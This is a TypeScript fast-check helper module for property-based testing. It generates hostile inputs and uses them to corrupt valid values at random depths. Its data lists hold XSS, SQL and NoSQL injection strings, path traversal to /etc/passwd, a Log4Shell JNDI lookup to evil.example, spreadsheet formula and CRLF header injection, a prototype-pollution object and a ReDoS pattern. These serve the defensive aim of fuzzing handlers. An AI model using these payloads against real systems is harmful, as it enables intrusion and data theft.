import fc, { type Arbitrary } from 'fast-check'

/** Texts that break what treats them as code, markup, a path, a number or a header. */
const texts: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202egnp.exe',
  'a\u200bb',
  `a${'\u0301'.repeat(1000)}`,
  "'; drop table players; --",
  "' OR 1=1 --",
  '1) UNION SELECT uid_hash FROM visitors --',
  '$1',
  '%',
  '_',
  '\\',
  '%00',
  '\0',
  '\ud800',
  '../../../etc/passwd',
  '..',
  '//evil.example',
  '/\\evil.example',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e999',
  '0x10',
  '9007199254740993',
  '99999999999999999999999999',
  '-1',
  ' ',
  '',
  '=cmd|calc!A1',
  'a\r\nset-cookie: hunter=2',
  '${jndi:ldap://evil.example}',
  '(((((((((((((((((((((a+)+)+)+)+)+)+$',
  '2026-02-30',
  '0000-00-00T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  'x'.repeat(5000),
  'İ'.repeat(100),
]

const numbers: readonly number[] = [
  -1,
  0,
  -0,
  0.1,
  2_147_483_648,
  -2_147_483_649,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  1e20,
]

const deep = (depth: number): unknown => JSON.parse('['.repeat(depth) + ']'.repeat(depth))

const others: readonly unknown[] = [
  null,
  true,
  [],
  {},
  [[]],
  [null],
  { length: 1 },
  { $gt: '' },
  { toString: 1, valueOf: 2 },
  JSON.parse('{"__proto__":{"isAdmin":true,"role":"admin"}}'),
  deep(9),
  deep(2000),
]

export const hostileText: Arbitrary<string> = fc.constantFrom(...texts)

/** Any value that JSON can carry and a handler did not reckon with. */
export const hostileValue: Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.constantFrom(...numbers) },
  { weight: 2, arbitrary: fc.constantFrom(...others) },
)

/** A value with one or two of its parts, at any depth, replaced by hostile ones. */
export function spoilt(values: Arbitrary<unknown>): Arbitrary<unknown> {
  return fc
    .tuple(values, hostileValue, hostileValue, fc.nat(), fc.nat(), fc.boolean())
    .map(([value, first, second, at, then, both]) => {
      const once = replacePart(value, first, at)
      return both ? replacePart(once, second, then) : once
    })
}

function replacePart(value: unknown, part: unknown, at: number): unknown {
  if (Array.isArray(value) && value.length > 0 && at % 4 !== 0) {
    const index = at % value.length
    return value.map((item: unknown, i) => (i === index ? replacePart(item, part, at >> 2) : item))
  }
  if (typeof value === 'object' && value !== null && at % 16 !== 0) {
    const names = Object.keys(value)
    const name = names[at % Math.max(1, names.length)]
    if (name === undefined) return part
    return { ...value, [name]: replacePart(Reflect.get(value, name), part, at >> 4) }
  }
  return part
}
